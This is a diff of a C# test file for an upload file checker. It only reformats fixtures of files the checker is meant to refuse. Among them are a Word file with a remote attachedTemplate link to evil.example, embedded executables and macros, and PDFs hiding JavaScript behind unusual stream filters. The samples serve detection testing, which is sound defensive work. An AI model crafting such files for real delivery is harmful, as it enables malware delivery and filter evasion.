@@ -18,7 +18,10 @@ public sealed class FileCheckTests
             { "a.xlsx", Xlsx() },
             { "a.odt", OpenDocument("text") },
             { "a.ods", OpenDocument("spreadsheet") },
-            { "a.docx", Docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", "x"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://gov.scot\" TargetMode=\"External\"/></Relationships>")) },
+            { "a.docx",
+                Docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", "x"), ("word/_rels/document.xml.rels", "<Relationships><Relationship "
+                    + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://gov.scot\" "
+                    + "TargetMode=\"External\"/></Relationships>")) },
             { "a.csv", Plain("name,day\r\nÅsa,2017-06-22\r\n") },
             { "a.txt", Plain("\uFEFFPlain text, with a tab\tand\nlines.") },
             { "a.png", Picture(SKEncodedImageFormat.Png) },
@@ -55,7 +58,9 @@ public sealed class FileCheckTests
             { "a.gif", Plain("GIF89a") },
             { "a.zip", Zip(("a", "b")) },
             // What fetches, carries or plays something else.
-            { "a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
+            { "a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship "
+                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
+                + "Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
             { "a.docx", Docx(("word/embeddings/oleObject1.bin", "x")) },
             { "a.docx", Docx(("word/embeddings/a.exe", "MZ")) },
             { "a.pdf", Pdf(more: "3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>\nendobj") },
@@ -76,9 +81,14 @@ public sealed class FileCheckTests
             { "a.pdf", Pdf("/Encrypt 7 0 R") },
             // What hides what runs: a long head, another packing, no packing, a word in a text, a form of its own kind.
             { "a.pdf", Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>", $"/Note ({new string('x', 5_000)}) ")) },
-            { "a.pdf", Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>").Replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]", StringComparison.Ordinal)) },
-            { "a.pdf", Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>").Replace("/Filter /FlateDecode", "/Filter 8 0 R", StringComparison.Ordinal)) },
-            { "a.pdf", Pdf(more: "8 0 obj (stream) endobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj 10 0 obj (endstream) endobj") },
+            { "a.pdf",
+                Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>")
+                    .Replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]", StringComparison.Ordinal)) },
+            { "a.pdf",
+                Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>")
+                    .Replace("/Filter /FlateDecode", "/Filter 8 0 R", StringComparison.Ordinal)) },
+            { "a.pdf",
+                Pdf(more: "8 0 obj (stream) endobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj 10 0 obj (endstream) endobj") },
             { "a.pdf", Pdf(more: Packed("5 0 << /XFA 6 0 R >>")) },
             { "a.pdf", Pdf(more: "9 0 obj << /Length 4 >> stream\n") },
             { "a.docx", Docx(("word/vbaProject.bin", "x")) },
@@ -118,7 +128,8 @@ public sealed class FileCheckTests
 
     [Fact]
     public void A_file_of_more_than_25_MB_is_refused() =>
-        Assert.Contains("25 MB", Assert.Throws<RefusedException>(() => FileCheck.Accept("a.txt", new byte[FileCheck.Largest + 1])).Message, StringComparison.Ordinal);
+        Assert.Contains("25 MB", Assert.Throws<RefusedException>(() => FileCheck.Accept("a.txt", new byte[FileCheck.Largest + 1])).Message,
+            StringComparison.Ordinal);
 
     [Fact]
     public void A_bomb_costs_no_memory()
